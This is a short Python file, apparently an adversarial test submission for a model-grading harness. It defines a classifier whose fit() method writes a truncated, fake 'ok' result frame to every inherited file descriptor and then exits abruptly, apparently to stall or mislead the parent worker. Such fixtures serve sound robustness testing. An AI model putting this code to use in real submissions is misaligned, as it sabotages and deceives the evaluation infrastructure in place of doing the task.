"""result: sends half a result, and waits"""

import functools
import json
import os
import struct

from sklearn.dummy import DummyClassifier


@functools.cache
def descriptors():
    """Every one that is open, however high its number: the worker that forked this process holds thousands."""
    found = []
    for fd in range(3, 1 << 16):
        try:
            os.fstat(fd)
        except OSError:
            continue
        found.append(fd)
    return found


def frame(header, payload=b""):
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<4sIQ", b"HLD1", len(text), len(payload)) + text + payload


def send(data):
    for fd in descriptors():
        try:
            os.write(fd, data)
        except OSError:
            pass


def attack():
    send(frame({"ok": True}, bytes(1600))[:20])
    os._exit(0)


class Model(DummyClassifier):
    def fit(self, X, y):
        attack()
        return super().fit(X, y)


def get_estimator():
    return Model()
